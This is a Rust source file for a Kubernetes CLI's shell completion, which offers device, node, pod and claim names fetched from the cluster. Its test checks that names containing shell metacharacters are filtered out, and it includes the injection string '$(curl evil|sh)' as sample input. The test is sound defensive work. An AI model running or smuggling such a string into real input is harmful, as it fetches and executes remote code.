//! Completion of names from the cluster. Without an answer in time there are no candidates: the shell must not hang, and it cannot show
//! an error.

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::fmt::Debug;
use std::time::Duration;

use clap::Parser;
use clap_complete::CompletionCandidate;
use k8s_openapi::NamespaceResourceScope;
use k8s_openapi::api::resource::v1;
use kube::api::ListParams;
use kube::{Client, Resource, ResourceExt as _};
use serde::de::DeserializeOwned;
use tokio::time::timeout;

use super::kubectl_flags::{KubectlFlags, fitting};
use super::read;
use super::read::ServedApi;
use crate::api::resource::ResourceClaim;
use crate::cli::diagnose::devices::{self, DeviceRow};
use crate::cli::diagnose::structured;
use crate::cli::error::Error;
use crate::cli::objects::PartialPod;
use crate::cli::runtime::block_on;

/// Limit for all requests of a completion.
const LIMIT: Duration = Duration::from_secs(2);

/// Names of the devices, alone and after their node.
pub(super) fn devices(typed: &OsStr) -> Vec<CompletionCandidate> {
    of_devices(typed, |row| vec![row.device.clone(), row.name()])
}

/// Names of the nodes with devices.
pub(super) fn nodes(typed: &OsStr) -> Vec<CompletionCandidate> {
    of_devices(typed, |row| vec![row.node.clone()])
}

/// Kinds of the devices.
pub(super) fn kinds(typed: &OsStr) -> Vec<CompletionCandidate> {
    of_devices(typed, |row| vec![row.kind.clone()])
}

/// Pods and claims in the context's namespace.
pub(super) fn pods_and_claims(typed: &OsStr) -> Vec<CompletionCandidate> {
    let names = ask(async |cluster: &KubectlFlags| {
        let (client, namespace) = cluster.connect().await?;
        Ok(explainable(&client, &namespace).await)
    });
    safe_fitting(typed, names)
}

async fn explainable(client: &Client, namespace: &str) -> BTreeSet<String> {
    let pods = names::<PartialPod>(client, namespace, "pod").await;
    let claims = names::<v1::ResourceClaim>(client, namespace, "claim").await;
    let classic_claims = names::<ResourceClaim>(client, namespace, "claim").await;
    pods.into_iter().chain(claims).chain(classic_claims).collect()
}

/// Names of the objects of a kind; none if they cannot be listed.
async fn names<K>(client: &Client, namespace: &str, kind: &str) -> Vec<String>
where
    K: Resource<DynamicType = (), Scope = NamespaceResourceScope> + Clone + DeserializeOwned + Debug,
{
    let api = kube::Api::<K>::namespaced(client.clone(), namespace);
    let listed = api.list_metadata(&ListParams::default()).await;
    let found = listed.iter().flat_map(|list| &list.items);
    found
        .map(|object| format!("{kind}/{}", object.name_any()))
        .collect()
}

fn of_devices(typed: &OsStr, names: impl Fn(&DeviceRow) -> Vec<String>) -> Vec<CompletionCandidate> {
    let found = ask(async |cluster: &KubectlFlags| {
        let (client, _) = cluster.connect().await?;
        let driver = &cluster.driver.name;
        let table = match read::api(&client).await? {
            ServedApi::Structured => structured::devices::devices(driver, &read::all(&client).await?, &[]),
            ServedApi::Classic => devices::devices(driver, &read::all(&client).await?, &[]),
        };
        Ok(table.devices.iter().flat_map(&names).collect())
    });
    safe_fitting(typed, found)
}

/// Returns the names that begin with the typed text, without those that contain shell metacharacters: other drivers choose the names of
/// devices, and a shell could run them.
fn safe_fitting(typed: &OsStr, mut names: BTreeSet<String>) -> Vec<CompletionCandidate> {
    let is_harmless = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '-');
    names.retain(|name| name.chars().all(is_harmless));
    fitting(typed, names)
}

/// The defaults of all flags: the completion engine does not pass the values of other flags.
#[derive(Parser)]
struct Defaults {
    #[command(flatten)]
    cluster: KubectlFlags,
}

/// Asks the cluster of the current context.
fn ask(names: impl AsyncFnOnce(&KubectlFlags) -> Result<BTreeSet<String>, Error>) -> BTreeSet<String> {
    let Ok(Defaults { cluster }) = Defaults::try_parse_from(["drayman"]) else {
        return BTreeSet::new();
    };
    let asked = block_on(async {
        let answer = timeout(LIMIT, names(&cluster)).await;
        answer.unwrap_or_else(|_| Ok(BTreeSet::new()))
    });
    asked.unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::cli::tool::tests::Server;

    #[test]
    fn names_with_characters_of_a_shell_are_not_offered() {
        let names = ["node-a/cam_1.x", "$(curl evil|sh)", "a\nb", "a b", "`id`"];
        let candidates = safe_fitting(OsStr::new(""), names.map(str::to_owned).into());
        let values: Vec<&OsStr> = candidates.iter().map(CompletionCandidate::get_value).collect();
        assert_eq!(values, ["node-a/cam_1.x"]);
    }

    #[tokio::test]
    async fn claims_of_each_mode_are_offered() {
        let object = |name: &str| json!({ "metadata": { "namespace": "shop", "name": name } });
        for version in ["v1", "v1alpha2"] {
            let claims = format!("/apis/resource.k8s.io/{version}/namespaces/shop/resourceclaims");
            let server = Server::default()
                .with("/api/v1/namespaces/shop/pods", &[object("one")])
                .with(&claims, &[object("two")]);
            let names = explainable(&server.client(), "shop").await;
            let names: Vec<&str> = names.iter().map(String::as_str).collect();
            assert_eq!(names, ["claim/two", "pod/one"], "{version}");
        }
    }
}
